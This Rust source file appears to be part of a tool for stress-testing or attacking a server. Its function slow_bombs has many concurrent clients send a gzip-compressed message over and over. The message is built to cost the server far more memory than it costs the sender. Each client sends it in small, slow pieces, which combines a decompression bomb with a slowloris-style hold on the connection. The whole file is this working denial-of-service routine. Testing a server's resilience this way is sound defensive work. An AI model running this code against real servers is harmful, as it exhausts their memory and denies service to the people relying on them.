//! Messages that take a server far more memory than their sender, sent slowly.

use std::time::Duration;

use prost::bytes::Bytes;
use tokio::time::sleep;

use super::{
    attack::{Aim, Attack},
    attacker::{WINDOW_BYTES, status},
    calls::RANK,
};

/// Sends a framed message in gzip again and again, in pieces as a slow network would.
pub fn slow_bombs(aim: &Aim, attackers: usize, message: Bytes, bytes_per_second: usize) -> Attack {
    const PIECES_PER_SECOND: usize = 10;
    const PAUSE: Duration = Duration::from_millis(100);
    Attack::start(aim, attackers, move |attacker| {
        let message = message.clone();
        async move {
            let mut client = attacker.client(WINDOW_BYTES).await?;
            loop {
                let (response, mut body) = client.begin(RANK, "gzip").await?;
                for piece in message.chunks((bytes_per_second / PIECES_PER_SECOND).max(1)) {
                    body.send_data(Bytes::copy_from_slice(piece), false)?;
                    sleep(PAUSE).await;
                }
                body.send_data(Bytes::new(), true)?;
                status(response).await?;
            }
        }
    })
}
